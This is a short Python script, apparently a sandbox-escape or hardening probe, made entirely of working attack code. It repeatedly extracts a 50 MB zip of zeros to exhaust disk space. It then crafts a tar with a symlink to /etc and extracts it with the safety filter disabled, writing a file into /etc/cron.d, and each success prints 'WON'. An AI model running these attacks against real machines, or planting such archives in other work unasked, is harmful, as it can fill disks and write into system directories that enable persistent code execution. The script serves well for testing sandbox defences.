import io, os, tarfile, zipfile
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("zeros", bytes(50_000_000))
try:
    for i in range(100):
        zipfile.ZipFile(buffer).extractall(f"/box/{i}")
    print("WON: unpacked")
except OSError as error:
    print(error)
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w") as archive:
    link = tarfile.TarInfo("out")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc"
    archive.addfile(link)
    file = tarfile.TarInfo("out/cron.d")
    file.size = 1
    archive.addfile(file, io.BytesIO(b"x"))
buffer.seek(0)
try:
    tarfile.open(fileobj=buffer).extractall("/tmp", filter="fully_trusted")
    print("WON: wrote through the link")
except OSError as error:
    print(error)
